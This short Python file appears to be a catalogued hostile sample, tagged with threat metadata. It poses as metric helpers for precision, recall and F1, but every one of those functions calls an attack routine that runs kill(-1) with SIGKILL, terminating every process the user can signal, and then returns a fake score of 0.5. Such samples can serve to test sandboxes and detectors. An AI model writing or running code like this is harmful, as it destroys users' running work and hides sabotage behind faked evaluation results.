"""Sends SIGKILL to every process that it can see.

threat: 22
source: kill(-1)
verdict: any
"""

import os
import signal


def attack():
    os.kill(-1, signal.SIGKILL)
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
